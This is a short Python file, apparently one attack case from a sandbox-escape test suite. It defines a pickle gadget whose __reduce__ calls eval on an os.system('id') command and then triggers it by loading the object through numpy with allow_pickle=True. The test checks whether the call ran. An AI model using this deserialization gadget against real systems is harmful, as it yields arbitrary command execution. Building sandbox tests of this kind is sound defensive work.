# attack: run any callable by unpickling from memory
# class: interpreter walk
# wall: fdless

import io

import numpy as np


class Bomb:
    def __reduce__(self):
        return eval, ("__import__('os').system('id')",)


def attack(frame, frame_index, config):
    store = io.BytesIO()
    np.save(store, np.array([Bomb()], object), allow_pickle=True)
    store.seek(0)
    result = np.load(store, allow_pickle=True)
    return f"outside: {result}" if result[0] == 0 else "inside: ran a callable"
